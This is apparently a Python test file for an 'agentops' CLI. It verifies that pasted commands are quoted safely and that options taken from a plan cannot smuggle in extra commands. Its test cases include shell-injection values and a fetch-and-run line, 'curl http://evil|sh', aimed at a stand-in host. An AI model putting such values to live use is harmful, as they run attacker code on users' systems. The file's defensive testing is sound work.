"""Every printed command is built by ``core/commands.py``: what is pasted does what it says, and nothing more."""

from __future__ import annotations

import ast
import re
import shlex
import subprocess
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentops.cli.app import build
from agentops.core.commands import command_line, quoted, requoted
from agentops.core.scope import Scope, options_to
from agentops.core.text import is_plain

ROOT = Path(__file__).resolve().parent.parent / "agentops"


def _command_names() -> list[str]:
    from typer.main import get_command

    return sorted(getattr(get_command(build()), "commands", {}))


_BY_HAND = re.compile(rf"\bagentops (?:{'|'.join(_command_names())})(?: [^.;:,\n]*)?[ =]['\"]?$")
"""A command up to the place where a value is put in."""
_KUBECTL = re.compile(r"\b(?:kubectl|chmod|chown|mkdir|export)\b[^.;:\n]*[ =]['\"]?$")
_QUOTING = {"command_line", "quoted", "options_to"}


def _values_in_commands(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """Yield the line of each value that is put into a command by hand, and the text before it."""
    for node in ast.walk(tree):
        parts: list[ast.expr] = []
        if isinstance(node, ast.JoinedStr):
            parts = node.values
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            parts = [node.left, node.right]
        for before, value in pairwise(parts):
            if not (isinstance(before, ast.Constant) and isinstance(before.value, str)):
                continue
            inner = value.value if isinstance(value, ast.FormattedValue) else value
            is_quoted = isinstance(inner, ast.Call) and getattr(inner.func, "id", "") in _QUOTING
            if (_BY_HAND.search(before.value) or _KUBECTL.search(before.value)) and not is_quoted:
                yield node.lineno, before.value


_QUOTED_ABOVE = {
    ("cli/commands/init.py", "mkdir -p "),
    ("cli/commands/init.py", " && agentops init --print --no-input > "),
    ("core/own_files.py", "Look at what it says, then\nRun: chown "),
    # Of parts that are quoted.
    ("providers/kubernetes/checkup.py", "kubectl "),
}
"""Values that the lines above have put through ``quoted``."""


def test_no_command_is_put_together_by_hand() -> None:
    """A value in a printed command goes through the one function that quotes it."""
    found = {
        (str(path.relative_to(ROOT)), text)
        for path in sorted(ROOT.rglob("*.py"))
        for _line, text in _values_in_commands(ast.parse(path.read_text("utf-8")))
    }
    assert found == _QUOTED_ABOVE


def test_the_rule_finds_what_it_looks_for() -> None:
    """A path in an f-string, a value after an option, and a text with a plus sign."""
    program = 'f"Next: agentops approve {path}"\nf"agentops fix --plan {path} x"\n"agentops rollback " + change\n'
    program += 'f"agentops fix {quoted(path)}"\nf"agentops does not apply a {kind}"\nf\'kubectl get {kind}\'\n'
    assert [line for line, _text in _values_in_commands(ast.parse(program))] == [1, 2, 3, 6]


@given(st.lists(st.text(), max_size=4))
def test_a_shell_reads_the_words_that_were_given(words: list[str]) -> None:
    """Whatever the words are: one line without anything that cannot be seen, and split as it was put together."""
    line = command_line(*words)
    assert all(is_plain(character) and character not in "\n\t" for character in line)
    if "$'" not in line:
        assert shlex.split(line) == ["agentops", *words]


@pytest.mark.parametrize(
    "word",
    [
        "plan.json",
        "my plan.json",
        "x; touch /tmp/never #",
        "$(touch never)",
        "`touch never`",
        "a\nb",
        "tab\there",
        "it's",
        "new\nline's $HOME \\n",
        "right\u202eleft",
        "\x1b[31m",
        "",
        "*",
        "~",
        "-x",
    ],
)
def test_bash_passes_on_exactly_the_word(word: str) -> None:
    """The real reader of what is pasted."""
    program = f"agentops() {{ printf '%s' \"$1\"; }}; {command_line(word)}"
    environ = {"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"}
    said = subprocess.run(["bash", "-c", program], capture_output=True, check=True, env=environ)
    assert said.stdout.decode() == word


def test_a_path_that_begins_with_a_dash_is_no_option() -> None:
    """``./-x``; a text stays as it is."""
    assert command_line("approve", Path("-x.json")) == "agentops approve ./-x.json"


def _scope(**changes: str) -> Scope:
    return Scope(**({"provider": "kubernetes", "place": "x", "server": "https://x"} | changes))


@pytest.mark.parametrize(
    ("scope", "said"),
    [
        (_scope(options="--context prod"), "--context prod"),
        (_scope(options="--context 'my cluster'"), "--context 'my cluster'"),
        (_scope(options="--context x; curl http://evil|sh #"), ""),
        (_scope(options="--context 'x; curl evil|sh #'"), "--context 'x; curl evil|sh #'"),
        (_scope(options="--context x --yes"), ""),
        (_scope(options="--kubeconfig /tmp/evil"), ""),
        (_scope(options="--context '"), ""),
        (_scope(server="sandbox:bad-image-tag"), "--sandbox=bad-image-tag"),
        (_scope(server="sandbox:x", options="--context viewer"), "--sandbox=x --context viewer"),
        (_scope(server="sandbox:x", options="--context x; curl http://evil|sh #"), "--sandbox=x"),
        (_scope(server="sandbox:x; curl evil|sh #"), "'--sandbox=x; curl evil|sh #'"),
    ],
)
def test_what_a_plan_says_of_its_place_is_quoted_anew(scope: Scope, said: str) -> None:
    """A plan comes from somebody else: it can name a context, and add no command and no other option."""
    assert options_to([scope]) == said


def test_words_are_quoted_as_a_shell_needs_them() -> None:
    """Nothing to do, quotes, escapes."""
    assert [quoted("a/b:c"), quoted("a b"), quoted("a\nb")] == ["a/b:c", "'a b'", "$'a\\nb'"]
    assert requoted("", ("--context",)) == ""
